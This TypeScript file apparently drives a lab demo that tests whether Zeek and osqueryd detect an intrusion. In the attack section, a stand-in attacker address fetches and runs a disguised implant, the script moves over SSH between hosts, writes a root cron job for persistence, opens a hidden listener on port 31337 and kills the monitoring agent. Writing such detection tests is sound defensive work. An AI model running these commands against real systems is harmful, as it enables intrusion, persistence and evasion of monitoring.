import { appendFileSync, chmodSync, copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Broadcast } from '../broadcast.ts';
import type { Child } from '../child.ts';
import type { FoundOsqueryd, FoundZeek } from '../programs.ts';
import type { DemoContext } from '../run-demo.ts';
import { EXPECTED, type Expected, fits, type LabNotice } from './expected.ts';
import { type Host, startHost } from './host.ts';
import { execute, killWithin, Lab, type Machine } from './lab.ts';
import { FETCH, hidden, implant, knock, monitor, SSH, sink, sshServer, webServer } from './programs.ts';
import { type LabZeek, startLabZeek } from './zeek.ts';
import { LEARNING_ENDS } from './zeek-script.ts';

export interface Story {
  readonly zeek: FoundZeek;
  readonly osqueryd: FoundOsqueryd;
  /** Seconds. */
  readonly ordinary: number;
  /** Where Zeek's logs are kept. */
  readonly logs: string | undefined;
}

const ZEEK = '10.0.0.1';
const ATTACKER = '203.0.113.9';
/** Seconds between two connections of the downloaded program. */
const BEAT = 5;
const MEGABYTES = 6;
/** Milliseconds in which something unexpected may still come. */
const AFTERMATH = 8_000;

interface Machines {
  readonly attacker: Machine;
  readonly admin: Machine;
  readonly web: Machine;
  readonly db: Machine;
  readonly files: Machine;
}

/** Acts out ordinary work, then an attack, and throws where a notice is missing or one is too many. */
export function actOut({ zeek, osqueryd, ordinary, logs }: Story): (context: DemoContext) => Promise<void> {
  return async (context) => {
    const lab = new Lab(context.processes);
    try {
      await run(context, lab);
    } finally {
      lab.stop();
    }
  };

  async function run(context: DemoContext, lab: Lab): Promise<void> {
    const { output, processes, signal } = context;
    output.step('A lab of five machines, in namespaces of their own, and a Zeek that sees their traffic');
    await lab.start(ZEEK);
    const machines = await startMachines(lab);
    for (const { name, address } of Object.values(machines)) output.line(`${name.padEnd(9)} ${address}`);
    output.line(`Zeek is ${zeek.description}.`);
    output.line(`osqueryd, on web-1 and db-1, is ${osqueryd.description}.`);
    const tools = await startPrograms(context, machines);
    const labZeek = await startLabZeek(processes, lab, zeek, { address: ZEEK, logs, signal });
    const hosts = [];
    for (const machine of [machines.web, machines.db])
      hosts.push(await startHost(processes, machine, osqueryd, labZeek));
    for (const { machine } of hosts)
      await labZeek.messages.find(
        (message) => (message.type === 'host' && message.host === machine.name ? true : undefined),
        signal,
      );

    output.step(`Ordinary work for ${ordinary} s, which raises no notice`);
    await ordinaryWork(context, machines, tools, ordinary);
    const early = labZeek.notices.heard;
    if (early.length > 0) throw new Error(`ordinary work raised a notice: ${early[0]?.message}`);
    output.line('No notice.');

    await attack(context, { machines, hosts, tools, labZeek, standIn: osqueryd.standIn });
    if (logs !== undefined) output.line(`Zeek's logs are in ${logs}.`);
    output.success('Every notice came, with the right host, process and user, and no other.');
  }
}

async function startMachines(lab: Lab): Promise<Machines> {
  return {
    attacker: await lab.machine('attacker', ATTACKER),
    admin: await lab.machine('admin', '198.51.100.20'),
    web: await lab.machine('web-1', '10.0.0.5'),
    db: await lab.machine('db-1', '10.0.0.6'),
    files: await lab.machine('files-1', '10.0.0.7'),
  };
}

/** The folder of the programs that machines have. */
async function startPrograms({ processes, mayEnd }: DemoContext, machines: Machines): Promise<string> {
  const tools = join(processes.directory, 'tools');
  const served = join(processes.directory, 'served');
  for (const folder of [tools, served]) mkdirSync(folder);
  // Machines' users have no other rights than those of strangers.
  chmodSync(processes.directory, 0o711);
  writeFileSync(join(tools, 'ssh.pl'), SSH);
  writeFileSync(join(tools, 'fetch.pl'), FETCH);
  copyFileSync('/usr/bin/perl', join(served, 'update'));
  // No program that the hosts have.
  appendFileSync(join(served, 'update'), 'implant');
  copyFileSync('/bin/true', join(served, 'report'));
  writeFileSync(join(served, 'implant.pl'), implant(ATTACKER, BEAT, MEGABYTES));
  const start = async (machine: Machine, command: readonly string[]) =>
    mayEnd(await processes.start(`${machine.name}: ${command[0]}`, machine.within(command)));
  const { attacker, web, db, files } = machines;
  for (const machine of [web, db, files]) await start(machine, sshServer());
  await start(attacker, webServer(80, served));
  for (const port of [443, 8000]) await start(attacker, sink(port));
  await start(web, webServer(8080, '/etc'));
  await start(db, monitor('collector', web.address, 8080, BEAT));
  return tools;
}

/** A login that goes nowhere, a downloaded program that isn't run, and what runs anyway. */
async function ordinaryWork(
  { signal }: DemoContext,
  { admin, web }: Machines,
  tools: string,
  lasting: number,
): Promise<void> {
  const until = Date.now() + lasting * 1_000;
  const ssh = (command: string) =>
    execute(admin.within(['perl', join(tools, 'ssh.pl'), web.address, 'backup', command]));
  while (Date.now() < until) {
    signal.throwIfAborted();
    await ssh(`cd /var/tmp && perl ${tools}/fetch.pl ${ATTACKER} report && ls /etc >list && sleep 4`);
    await sleep(Math.min(5_000, Math.max(0, until - Date.now())), undefined, { signal });
  }
}

interface Attack {
  readonly machines: Machines;
  readonly hosts: readonly Host[];
  readonly tools: string;
  readonly labZeek: LabZeek;
  readonly standIn: boolean;
}

async function attack(
  context: DemoContext,
  { machines, hosts, tools, labZeek, standIn }: Attack,
): Promise<void> {
  const { output, processes, signal, mayEnd } = context;
  const { attacker, web, db, files } = machines;
  const wanted = EXPECTED.filter(({ tables, optional }) => !optional && !(standIn && tables));
  const skipped = EXPECTED.filter(({ tables }) => standIn && tables);
  labZeek.configure(LEARNING_ENDS);
  await sleep(3_000, undefined, { signal });
  const start = async (machine: Machine, command: readonly string[], only?: 'network'): Promise<Child> => {
    const child = await processes.start(`${machine.name}: ${command[0]}`, machine.within(command, only));
    mayEnd(child);
    return child;
  };
  const ssh = (from: Machine, to: Machine, user: string, command: string) =>
    start(from, ['perl', join(tools, 'ssh.pl'), to.address, user, command]);

  output.step('The attack');
  output.line('files-1, which has no osquery, begins to talk.');
  await start(files, monitor('sync', web.address, 8080, BEAT));
  output.line(
    'From outside as www-data on web-1: downloads a program and runs it; it listens, beats and uploads.',
  );
  await ssh(
    attacker,
    web,
    'www-data',
    `mkdir -p /var/tmp/.cache && cd /var/tmp/.cache && perl ${tools}/fetch.pl ${ATTACKER} update implant.pl && chmod 755 update && ./update implant.pl >/dev/null 2>&1 & sleep 12; ` +
      `perl ${tools}/ssh.pl ${db.address} backup "perl ${tools}/ssh.pl ${files.address} nobody 'sleep 25'"; sleep 1000`,
  );
  output.line('From there over SSH to db-1 as backup, and on to files-1.');
  output.line('As root on web-1: writes /etc/cron.d/update.');
  await execute(
    web.within([
      'sh',
      '-c',
      'echo "*/5 * * * * root /var/tmp/.cache/update" >/etc/cron.d/update && chmod 644 /etc/cron.d/update',
    ]),
  );
  output.line('A process that web-1 does not see listens on 31337, and is connected to outside.');
  await start(web, hidden(ATTACKER), 'network');
  const last = wanted.filter(({ note }) => note.endsWith('Silent_Host_Seen'));
  const before = wanted.filter((one) => !last.includes(one));
  await Promise.race([waitFor(labZeek.notices, before, signal), knockAgain(attacker, web, signal)]);
  output.line('At last osqueryd of web-1 and its extension are killed; the program goes on beating.');
  for (const child of hosts.find(({ machine }) => machine === web)?.children ?? []) {
    mayEnd(child);
    killWithin(child);
  }
  await waitFor(labZeek.notices, last, signal);
  await sleep(AFTERMATH, undefined, { signal });

  output.step('What Zeek made of it');
  for (const notice of labZeek.notices.heard) {
    output.line(
      `${notice.note}${notice.techniques.length > 0 ? ` (${[...notice.techniques].sort().join(', ')})` : ''}`,
    );
    output.detail(notice.message);
  }
  for (const { note } of skipped) output.line(`Left out, because the stand-in lacks the table: ${note}`);
  const unexpected = labZeek.notices.heard.find((notice) => !EXPECTED.some((one) => fits(notice, one)));
  if (unexpected)
    throw new Error(
      `a notice too many, or with a wrong host, process or user: ${JSON.stringify(unexpected)}`,
    );
}

/** @throws Error that names what is missing, if the demo's time is over before */
async function waitFor(
  notices: Broadcast<LabNotice>,
  wanted: readonly Expected[],
  signal: AbortSignal,
): Promise<void> {
  for (const one of wanted)
    await notices
      .find((notice) => (fits(notice, one) ? true : undefined), signal)
      .catch((error: unknown) => {
        throw new Error(`no notice ${one.note} about ${one.host || one.says} ${one.process}`, {
          cause: error,
        });
      });
}

/** Somebody tries the hidden port again and again. */
async function knockAgain(from: Machine, to: Machine, signal: AbortSignal): Promise<never> {
  for (;;) {
    await execute(from.within(knock(to.address, 31337))).catch(() => undefined);
    await sleep(6_000, undefined, { signal });
  }
}
